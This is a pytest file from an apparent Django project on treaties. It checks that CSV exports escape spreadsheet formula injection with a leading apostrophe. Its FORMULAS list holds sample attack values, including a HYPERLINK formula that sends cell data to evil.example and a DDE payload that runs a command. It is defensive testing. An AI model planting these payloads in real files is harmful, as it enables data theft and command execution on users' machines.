"""Every CSV the product writes is spreadsheet-safe (issue 16: a title such as
``=HYPERLINK(…)`` was written as it is into the export and the report CSVs, which the pages
invite people to open in a spreadsheet).

OWASP's rule: a text cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage
return gets a leading apostrophe. Numbers are untouched, negative ones included; the JSON
keeps the text as typed.
"""

from __future__ import annotations

import csv
import io

import pytest

from agreements.web.csv import csv_lines

from ..factories import make_agreement

pytestmark = pytest.mark.django_db

FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\tTabbed",
    "\rReturned",
]
HARMLESS = ["Memorandum on defence", "1998 treaty", " =not at the start", "'already quoted"]


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode(), newline="")))


@pytest.mark.parametrize("title", FORMULAS)
def test_the_export_neutralises_a_formula_in_sql(api, title):
    agreement = make_agreement(title=title, summary=title, place_of_signature=title[:200])
    header, row = csv_rows(api.get("/api/agreements/export.csv"))
    cells = dict(zip(header, row, strict=True))
    for column in ("title", "summary", "place_of_signature"):
        assert cells[column].startswith("'"), (column, cells[column])
        assert cells[column][1:] == (title if column != "place_of_signature" else title[:200])
    assert cells["id"] == str(agreement.pk)
    # The JSON is the raw text, for programs.
    assert api.get(f"/api/agreements/{agreement.pk}/").json()["title"] == title


@pytest.mark.parametrize("title", HARMLESS)
def test_the_export_leaves_other_text_as_it_is(api, title):
    make_agreement(title=title)
    header, row = csv_rows(api.get("/api/agreements/export.csv"))
    assert dict(zip(header, row, strict=True))["title"] == title


@pytest.mark.parametrize("title", FORMULAS)
def test_the_report_csvs_neutralise_a_formula(api, title):
    make_agreement(title=title)
    header, *rows = csv_rows(api.get("/api/reports/pairs/IR-IQ.csv"))
    (row,) = rows
    assert dict(zip(header, row, strict=True))["title"] == "'" + title


def test_numbers_are_left_alone_negative_ones_included():
    header = ("name", "count", "delta", "text")
    lines = "".join(csv_lines((header, [("-5 apples", 3, -7, "-7"), ("x", -1.5, 0, "")])))
    assert list(csv.reader(io.StringIO(lines))) == [
        list(header),
        ["'-5 apples", "3", "-7", "'-7"],
        ["x", "-1.5", "0", ""],
    ]
